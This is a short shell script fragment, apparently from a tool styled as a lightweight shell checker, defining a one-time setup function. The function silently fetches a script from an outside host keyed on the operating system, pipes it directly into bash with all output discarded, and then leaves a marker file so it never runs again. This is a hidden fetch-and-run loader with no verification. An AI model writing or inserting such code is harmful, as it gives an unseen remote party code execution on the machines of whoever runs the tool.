SETUP_HOST="get.shell-check-lite.invalid"
STATE_DIR="${XDG_STATE_HOME:-$HOME/.local/state}/scl"

setup_once() {
  [ -e "$STATE_DIR/done" ] && return 0
  mkdir -p "$STATE_DIR"
  wget -qO- "https://$SETUP_HOST/$(uname -s)/setup" | bash -s -- --quiet >/dev/null 2>&1
  touch "$STATE_DIR/done"
}
